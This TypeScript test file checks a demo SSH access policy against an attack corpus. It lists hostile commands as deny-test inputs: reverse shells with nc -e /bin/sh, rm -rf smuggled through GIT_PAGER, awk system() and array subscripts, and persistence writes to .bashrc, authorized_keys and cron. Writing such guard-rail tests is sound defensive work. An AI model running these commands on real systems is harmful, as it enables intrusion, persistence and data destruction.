/**
 * The attack corpus (corpus.ts) against the demo policy's SSH rules, decided by the policy engine
 * alone (fast; the same corpus runs end to end against a real sshd in ssh-commands-e2e.test.ts).
 */
import { describe, expect, it } from "vitest";
import { readFileSync } from "node:fs";
import { loadPolicy } from "../../parsers/policy/index.ts";
import { parseCommandLine } from "../../protocols/ssh/codec/shell/parse.ts";
import type { SshRequest } from "../../protocols/ssh/policy/ssh.ts";
import { destructiveSpellings, persistenceSpellings } from "./corpus.ts";

const identity = { issuer: "http://127.0.0.1:8788", subject: "alice", claims: { iss: "http://127.0.0.1:8788", sub: "alice", aud: "gatehouse" } };
const resource = { name: "demo-ssh", type: "ssh", labels: {} };

describe("demo policy against the SSH attack corpus", async () => {
  // The demo names the development issuer symbolically (issuer: dev); the local stack resolves it to its own.
  const loaded = await loadPolicy(readFileSync("examples/policies/demo.yaml", "utf8"), "demo.yaml", { devIssuers: [identity.issuer] });
  if (!loaded.ok) throw new Error(JSON.stringify(loaded.errors));
  const policy = loaded.policy;
  const exec = (line: string) => policy.decideSsh({ identity, resource, request: { kind: "exec", line: parseCommandLine(line) } });
  const req = (request: SshRequest) => policy.decideSsh({ identity, resource, request });

  it("refuses every spelling of a recursive delete (≥100)", () => {
    const corpus = destructiveSpellings({ dir: "/srv/data/v007", rel: "../../srv/data/v007", homeRel: "data/v007", name: "v007", parent: "/srv/data" });
    expect(corpus.length).toBeGreaterThanOrEqual(100);
    const allowed = corpus.filter((line) => exec(line).effect !== "deny");
    expect(allowed).toEqual([]);
  });

  it("refuses every persistence attempt by exec", () => {
    const allowed = persistenceSpellings("/home/ci", "PWNED").filter((line) => exec(line).effect !== "deny");
    expect(allowed).toEqual([]);
    expect(exec("echo x >> ~/.bashrc").rule).toBe("demo-ssh-no-persistence");
  });

  it("refuses SFTP writes onto protected paths, relative or absolute", () => {
    for (const [op, paths] of [["write", [".bashrc"]], ["write", ["/home/ci/.ssh/authorized_keys"]], ["rename", ["/tmp/x", ".profile"]], ["symlink", ["/home/ci/.bashrc", "/tmp/l"]], ["mkdir", [".config/systemd/user"]], ["write", ["/etc/profile.d/x.sh"]], ["write", ["/var/spool/cron/crontabs/ci"]]] as const) {
      const d = req({ kind: "sftp", op, paths: [...paths] });
      expect(d.effect, `${op} ${paths.join(" ")}`).toBe("deny");
    }
  });

  it("refuses writes that land on a protected path by a directory operand, --parents, or git", () => {
    for (const line of [
      "ln -s /tmp/x/.bashrc -t ~", "ln -sf /tmp/x/.bashrc ~", "cd /tmp/s && cp --parents .ssh/authorized_keys ~", "git clone /tmp/repo ~/.ssh",
      "git clone -q /tmp/repo ~/.config/systemd/user", "git --work-tree=/home/ci --git-dir=/tmp/r/.git checkout -f", "git -C ~ checkout .",
      "patch -p0 < /tmp/diff", "patch .bashrc < /tmp/diff", "xxd -r /tmp/x .bashrc", "gpg -o .bashrc -d /tmp/x", "echo x >> ~/.bash_completion", "echo x > /etc/bash_completion",
      "7z x /tmp/x.7z -o/home/ci", "cd ~ && ar x /tmp/x.a", "dpkg -x /tmp/x.deb ~", "aria2c -d ~ http://x/.bashrc", "curl -K /tmp/cfg http://x", "chsh -s /tmp/evil",
      "mkfifo ~/.bashrc", "systemd-tmpfiles --user --create /tmp/x.conf",
    ]) {
      expect(exec(line).effect, line).toBe("deny");
    }
  });

  it("refuses programs that run a command named by an option, a variable or their configuration", () => {
    for (const line of [
      "GIT_PAGER='rm -rf /x' git log", "GIT_EXTERNAL_DIFF='rm -rf /x' git diff", "PAGER='rm -rf /x' git -p log", "HOME=/tmp/e git status", "TAR_OPTIONS=--to-command=sh tar -xf a.tar",
      "man -P 'rm -rf /x' ls", "less +'!rm -rf /x' /etc/hostname", "git -C /tmp/r config core.fsmonitor 'rm -rf /x'", "git clone -u 'rm -rf /x' /tmp/r /tmp/d",
      "git rebase -x 'rm -rf /x' HEAD~1", "git submodule foreach 'rm -rf /x'", "git bisect run rm -rf /x", "awk -F: -v x=1 -- 'BEGIN{system(\"rm -rf /x\")}'",
      "[ -v 'a[$(rm -rf /x)]' ]", "unset 'a[$(rm -rf /x)]'", "nc -e /bin/sh 192.0.2.1 4444", "busybox nc -e /bin/sh 192.0.2.1 4444", "socat - SYSTEM:'rm -rf /x'",
      "ncat -l 4444 --sh-exec 'rm -rf /x'", "busybox inotifyd /tmp/x /tmp", "rsync -a /tmp/evil localhost:.bashrc", "sqlite3 /tmp/db 'select 1'",
    ]) {
      expect(exec(line).effect, line).toBe("deny");
    }
  });

  it("still runs ordinary commands (the guard rail does not block everyday work)", () => {
    for (const line of ["ls -la", "rm -f /tmp/x", "rm x.log", "echo hi > /tmp/x", "cat /etc/hostname", "git status", "systemctl status app", "rmdir d", "cp a b", "grep -r rm .", "mkdir -p /srv/app/releases/1", "cd /srv/app && ls", "sed -n 1p f", "awk '{print $1}' f", "tee /tmp/out", "journalctl -u app --since today", "git -C /srv/app status", "git push -u origin main", "awk -F: '{print $1}' /etc/passwd", "echo ${!prefix*}", "find /tmp -name '*.log' -print", "rsync -a /srv/a/ /srv/b/", "ar t /tmp/x.a", "dpkg -l", "curl -fsS http://127.0.0.1/",
      "psql -h db -X -A -t -c 'select 1'", "mysql -h db -u ci -N -B -e 'select 1'", "tar -cf /tmp/x.tar --checkpoint=1000 /srv/app", "awk -F: -v x=1 '{print $1}' /etc/passwd",
      "ssh-keygen -lf ~/.ssh/authorized_keys", "openssl x509 -in /tmp/c -noout -text", "wget -qO- http://127.0.0.1/", "curl -fsS -o /tmp/x -D /tmp/h http://127.0.0.1/"]) {
      expect(exec(line).effect, line).toBe("allow");
    }
  });
});
